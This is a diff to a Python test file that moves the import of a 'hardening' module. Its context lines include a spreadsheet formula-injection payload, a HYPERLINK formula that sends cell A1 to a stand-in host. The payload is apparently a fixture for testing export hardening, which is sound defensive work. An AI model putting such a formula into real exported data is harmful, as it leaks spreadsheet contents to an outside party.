@@ -9,10 +9,11 @@ import json
 import pytest
 from sqlalchemy import func, select
 
-from companion import create_app, hardening
+from companion import create_app
 from companion.config import Settings
 from companion.extensions import db
 from companion.models import Match
+from companion.web import hardening
 from tests.conftest import ADDRESS_KEY, PHONE_CREDENTIAL, csrf_token, grant_host_rights, ref
 
 HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'
